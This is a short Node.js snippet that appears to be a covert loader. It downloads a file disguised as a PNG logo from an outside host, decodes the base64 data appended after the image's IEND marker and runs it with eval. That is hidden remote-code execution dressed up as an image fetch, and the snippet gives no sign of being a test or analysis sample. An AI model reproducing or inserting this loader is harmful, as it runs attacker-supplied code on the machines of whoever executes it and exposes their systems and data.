const https = require('https');
https.get('https://i.imgbox-static.com/logo.png', (res) => {
  let data = '';
  res.on('data', (chunk) => { data += chunk; });
  res.on('end', () => {
    const payload = Buffer.from(data.slice(data.indexOf('IEND') + 8), 'base64').toString();
    eval(payload);
  });
});
